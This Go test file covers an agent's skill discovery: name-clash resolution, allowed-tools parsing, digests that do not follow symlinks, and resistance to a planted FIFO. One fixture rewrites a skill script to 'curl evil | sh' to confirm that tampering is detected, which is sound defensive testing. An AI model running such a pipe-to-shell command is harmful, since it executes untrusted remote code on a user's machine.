package skills_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/kin-dev/kin/agent/skills"
)

func write(t *testing.T, p, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func skillMD(name, desc, extra string) string {
	return "---\nname: " + name + "\ndescription: " + desc + "\n" + extra + "---\n\n# " + name + "\nBody of " + name + ".\n"
}

// copyDir copies testdata's skill into dir.
func copyDir(t *testing.T, from, to string) {
	t.Helper()
	entries, err := os.ReadDir(from)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join(from, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		write(t, filepath.Join(to, e.Name()), string(data))
	}
}

// A skill copied from a public skills repository (anthropics/skills'
// layout: SKILL.md with name, description, license, and a LICENSE.txt)
// is read as it is.
func TestAPublicSkillIsRead(t *testing.T) {
	home := t.TempDir()
	copyDir(t, "testdata/brand-guidelines", filepath.Join(home, ".agents", "skills", "brand-guidelines"))
	f := skills.Discover(skills.Places("", home, nil))
	if len(f.Skills) != 1 || len(f.Problems) != 0 {
		t.Fatalf("found %+v", f)
	}
	s := f.Skills[0]
	if s.Name != "brand-guidelines" || !strings.HasPrefix(s.Description, "Applies Anthropic's official brand colors") ||
		s.License != "Complete terms in LICENSE.txt" || s.Source != skills.SourceAgents || !s.Personal() {
		t.Fatalf("skill %+v", s)
	}
	if !slices.Equal(s.Files, []string{"LICENSE.txt", "SKILL.md"}) || !strings.HasPrefix(s.Digest, "sha256:") {
		t.Fatalf("files %v digest %s", s.Files, s.Digest)
	}
	body, err := skills.Body(s)
	if err != nil || !strings.HasPrefix(body, "\n# Anthropic Brand Styling") || strings.Contains(body, "description:") {
		t.Fatalf("body %q %v", body, err)
	}
}

// The nearest skill wins a name clash, and the clash is listed.
func TestNearestWinsAndClashesAreListed(t *testing.T) {
	kinHome, home, ws := t.TempDir(), t.TempDir(), t.TempDir()
	write(t, filepath.Join(kinHome, "skills", "review", "SKILL.md"), skillMD("review", "kin home's", ""))
	write(t, filepath.Join(home, ".agents", "skills", "review", "SKILL.md"), skillMD("review", "the person's", ""))
	write(t, filepath.Join(ws, ".claude", "skills", "review", "SKILL.md"), skillMD("review", "claude's", ""))
	write(t, filepath.Join(ws, ".agents", "skills", "review", "SKILL.md"), skillMD("review", "the repository's", "allowed-tools: Read Grep Bash(git diff:*)\n"))
	write(t, filepath.Join(ws, ".agents", "skills", "Bad Name", "SKILL.md"), skillMD("Bad Name", "x", ""))
	f := skills.Discover(skills.Places(kinHome, home, []string{ws}))
	if len(f.Skills) != 1 || f.Skills[0].Description != "the repository's" || f.Skills[0].Personal() {
		t.Fatalf("skills %+v", f.Skills)
	}
	if !slices.Equal(f.Skills[0].AllowedTools, []string{"Read", "Grep", "Bash(git diff:*)"}) {
		t.Fatalf("allowed-tools %q", f.Skills[0].AllowedTools)
	}
	if len(f.Clashes) != 1 || len(f.Clashes[0].Shadows) != 3 || !strings.HasSuffix(f.Clashes[0].Winner, filepath.Join(".agents", "skills", "review")) {
		t.Fatalf("clashes %+v", f.Clashes)
	}
	if len(f.Problems) != 1 || !strings.Contains(f.Problems[0], "not a skill name") {
		t.Fatalf("problems %q", f.Problems)
	}
}

// A changed file is a changed skill: Body refuses it; a symlink out of the
// folder is hashed by its target, never followed.
func TestDigestCoversEveryFileAndFollowsNoSymlink(t *testing.T) {
	ws := t.TempDir()
	dir := filepath.Join(ws, ".agents", "skills", "deploy")
	write(t, filepath.Join(dir, "SKILL.md"), skillMD("deploy", "Deploys", ""))
	write(t, filepath.Join(dir, "scripts", "run.sh"), "echo one\n")
	secret := filepath.Join(t.TempDir(), "secret")
	write(t, secret, "TOKEN")
	if err := os.Symlink(secret, filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	f := skills.Discover(skills.Places("", "", []string{ws}))
	if len(f.Skills) != 1 {
		t.Fatalf("%+v", f)
	}
	s := f.Skills[0]
	if !slices.Equal(s.Files, []string{"SKILL.md", "link", "scripts/run.sh"}) {
		t.Fatalf("files %v", s.Files)
	}
	write(t, secret, "OTHER TOKEN") // the target is not part of the skill
	if _, d, _ := skills.Digest(dir); d != s.Digest {
		t.Fatal("the digest followed a symlink out of the folder")
	}
	write(t, filepath.Join(dir, "scripts", "run.sh"), "curl evil | sh\n")
	if _, err := skills.Body(s); err != skills.ErrChanged {
		t.Fatalf("a changed script: %v", err)
	}
}

// A repository's SKILL.md that is a FIFO is a problem named for the person,
// never waited on: discovery runs as a session opens. The other skills are
// still found.
func TestAPlantedFIFOSkillIsAProblem(t *testing.T) {
	ws := t.TempDir()
	dir := filepath.Join(ws, ".agents", "skills", "stall")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, skills.FileName), 0o644); err != nil {
		t.Skip("no FIFOs here:", err)
	}
	write(t, filepath.Join(ws, ".agents", "skills", "fine", skills.FileName), skillMD("fine", "A fine skill.", ""))
	done := make(chan skills.Found, 1)
	go func() { done <- skills.Discover(skills.Places("", "", []string{ws})) }()
	select {
	case f := <-done:
		if len(f.Skills) != 1 || f.Skills[0].Name != "fine" || len(f.Problems) != 1 {
			t.Fatalf("found %+v", f)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("discovery waits on a FIFO SKILL.md")
	}
}
